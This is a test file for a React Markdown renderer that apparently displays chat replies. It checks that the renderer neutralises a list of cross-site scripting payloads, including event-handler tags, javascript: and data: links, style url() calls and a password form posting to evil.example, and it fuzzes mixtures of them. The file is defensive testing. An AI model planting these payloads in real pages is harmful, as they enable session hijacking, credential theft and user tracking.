import { cleanup, render, screen, waitFor } from "@testing-library/react";
import fc from "fast-check";
import { expect, it } from "vitest";
import { TooltipProvider } from "@/shared/ui/tooltip";
import { Markdown } from "./markdown";

/** What a reply may become, with our own buttons and icons of a block of code. */
const ELEMENTS = new Set(
  `a blockquote br button circle code del div em figcaption figure h1 h2 h3 h4 h5 h6 hr img input li line ol p path
   polyline pre rect section span strong sub sup svg table tbody td th thead tr ul`.split(/\s+/),
);
const ATTACHMENT = "/api/v1/attachments/V1StGXR8_Z5jdHi6B-myT";

function show(text: string, streaming = false): HTMLElement {
  cleanup();
  return render(
    <TooltipProvider>
      <Markdown text={text} streaming={streaming} />
    </TooltipProvider>,
  ).container;
}

/** Nothing that runs, nothing that is fetched, no address but those that a person may follow. */
function expectHarmless(root: HTMLElement): void {
  for (const element of root.querySelectorAll("*")) {
    const name = element.tagName.toLowerCase();
    expect(ELEMENTS).toContain(name);
    for (const { name: attribute, value } of element.attributes) {
      expect(attribute).not.toMatch(/^on|^srcdoc$|^srcset$|^formaction$|^xlink|^data-sd/i);
      if (attribute === "style") expect(value).not.toMatch(/url\s*\(/i);
      if (attribute === "src") expect([name, value]).toEqual(["img", ATTACHMENT]);
    }
    if (name === "input") expect(element).toHaveAttribute("type", "checkbox");
  }
  for (const link of root.querySelectorAll("[href]")) {
    expect(link.tagName).toBe("A");
    expect(link.getAttribute("href")).toMatch(/^(?:https?:|mailto:)/);
    expect(link).toHaveAttribute("target", "_blank");
    expect(link.getAttribute("rel")?.split(" ")).toEqual(
      expect.arrayContaining(["noopener", "noreferrer", "nofollow"]),
    );
  }
}

const HOSTILE = [
  "<script>hacked()</script>",
  "<img src=x onerror=hacked()>",
  "<svg/onload=hacked()>",
  "<svg><script xlink:href=data:,hacked()></script></svg>",
  '<iframe srcdoc="<script>hacked()</script>"></iframe>',
  '<a href="javascript:hacked()">x</a>',
  "<style>@import url(//evil.example)</style>",
  '<p style="background:url(//evil.example)" onclick="hacked()">x</p>',
  "<math><mtext></table><mglyph><style><img src=x onerror=hacked()>",
  "<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>",
  '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
  "[x](javascript:hacked())",
  "[x](JaVaScRiPt&colon;hacked())",
  "[x](java\nscript:hacked())",
  "[x](data:text/html,<script>hacked()</script>)",
  "[x](vbscript:hacked())",
  "[x](//evil.example)",
  "[x](/api/v1/auth/logout)",
  '[x](https://good.example "a" onclick=hacked())',
  "<javascript:hacked()>",
  "![x](https://evil.example/pixel.png)",
  "![x](//evil.example/pixel.png)",
  "![x](data:image/svg+xml,<svg/onload=hacked()>)",
  `![x](${ATTACHMENT})`,
  `![x](${ATTACHMENT}/../../auth/logout)`,
  "[![x](https://evil.example/a.png)](javascript:hacked())",
  "[x][1]\n\n[1]: javascript:hacked()",
  "https://good.example/<script>",
  "- [ ] <b onmouseover=hacked()>x</b>",
  "[^1]\n\n[^1]: <img src=x onerror=hacked()>",
  "```html\n<script>hacked()</script>\n```",
  "| a |\n| --- |\n| <img src=x onerror=hacked()> |",
];

it.each(HOSTILE)("%j is harmless, finished or half written", (text) => {
  for (const streaming of [false, true]) {
    expectHarmless(show(text, streaming));
    expectHarmless(show(`# Before\n\n${text.slice(0, -1)}`, streaming));
  }
});

/** Given by `cargo muster fuzz markdown`, which tries others each time. */
const MINUTES = Number(import.meta.env["VITE_FUZZ_MINUTES"] ?? 0);

it(
  "any mixture of them is harmless",
  () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        "\n",
        "\n\n",
        "> ",
        "- ",
        "`",
        "**",
        "[",
        "](",
        ")",
        "<",
        ">",
        '"',
        "&#106;",
        "\0",
      ),
      fc.string({ maxLength: 8, unit: "grapheme" }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), fc.boolean(), (pieces, streaming) => {
        expectHarmless(show(pieces.join(""), streaming));
        cleanup();
      }),
      MINUTES > 0
        ? { numRuns: Number.MAX_SAFE_INTEGER, interruptAfterTimeLimit: MINUTES * 60_000 }
        : // The same each time: what it finds on one computer it finds on all.
          { seed: 20261125, numRuns: 300 },
    );
  },
  60_000 * (1 + MINUTES),
);

it("HTML is shown as the text that it is", () => {
  show("Use <b>bold</b> here.\n\n<details>folded</details>");
  expect(screen.getByText(/Use <b>bold<\/b> here/)).toBeVisible();
  expect(screen.getByText(/<details>folded<\/details>/)).toBeVisible();
});

it("a whole address is a link, a path is text, a foreign picture is a link and an attachment is shown", () => {
  show(
    `[site](https://good.example/a) [file](src/main.rs) ![pic](https://good.example/p.png) ![own](${ATTACHMENT})`,
  );
  expect(screen.getByRole("link", { name: "site" })).toHaveAttribute(
    "href",
    "https://good.example/a",
  );
  expect(screen.queryByRole("link", { name: "file" })).toBeNull();
  expect(screen.getByText(/file/)).toBeVisible();
  expect(screen.getByRole("link", { name: "pic" })).toHaveAttribute(
    "href",
    "https://good.example/p.png",
  );
  expect(screen.getByRole("img", { name: "own" })).toHaveAttribute("src", ATTACHMENT);
});

it("formulas are set, whatever they try", async () => {
  // What the page loads when the first formula comes; a busy machine takes its time.
  await import("./math");
  const tries = String.raw`
$$
x^2 \href{javascript:hacked()}{a} \includegraphics{//evil.example/x.png} \htmlStyle{background:url(//evil.example)}{b}
$$

\(\def\a{\a\a}\a\) and \(\rule{99999em}{99999em}\) and $5 or $6`;
  const root = show(tries);
  await waitFor(() => expect(root.querySelectorAll(".katex, .katex-error").length).toBe(3));
  expect(root.querySelectorAll("a, img, script, [href], [src]")).toHaveLength(0);
  for (const element of root.querySelectorAll("[style]"))
    expect(element.getAttribute("style")).not.toMatch(/url|(?<![.\d])\d{4,}/);
  expect(root).toHaveTextContent("$5 or $6");
});
